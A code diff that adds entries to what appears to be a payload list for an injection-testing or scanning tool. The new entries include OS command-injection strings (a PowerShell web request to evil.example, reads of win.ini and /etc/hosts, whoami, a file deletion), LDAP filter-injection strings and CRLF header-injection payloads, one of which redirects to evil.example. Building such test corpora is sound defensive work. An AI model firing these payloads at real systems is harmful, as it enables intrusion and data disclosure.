@@ -111,6 +111,12 @@ export const PAYLOADS: readonly PayloadSet[] = [
       '& ipconfig /all',
       "$(printf 'id')",
       ';/usr/bin/id',
+      '"; sleep 5 #',
+      '| pwsh -c "Invoke-WebRequest http://evil.example"',
+      '& type c:\\windows\\win.ini',
+      'y\nwhoami',
+      ';cat${IFS}/etc/hosts',
+      'a.txt; rm -f /tmp/x',
     ],
   },
   {
@@ -166,7 +172,7 @@ export const PAYLOADS: readonly PayloadSet[] = [
       '*))%00',
       'a)(|(uid=*)(userPassword=*))',
     ],
-    dev: ['*)(sn=*', 'ann)(|(ou=*))', '*)(&(objectClass=user))', 'x*)(|(description=*', '*)(!(uid=0', 'test)(uid=*'],
+    dev: ['*)(sn=*', 'ann)(|(ou=*))', '*)(&(objectClass=user))', 'x*)(|(description=*', '*)(!(uid=0', 'test)(uid=*', '*))\u0000', 'x)(&)', 'carol)(!(sn=z))', '*)(givenName=*'],
   },
   {
     family: 'mail',
@@ -269,6 +275,9 @@ export const PAYLOADS: readonly PayloadSet[] = [
       'a%0d%0a%0d%0a<h1>x</h1>',
       '%u000d%u000aSet-Cookie:%20q=1',
       '\r\nX-XSS-Protection: 0',
+      '%E5%98%8A%E5%98%8DLocation:%20//evil.example',
+      'q%0aHTTP/1.1%20200%20OK',
+      'de\r\n\r\n<b>x</b>',
     ],
   },
   {
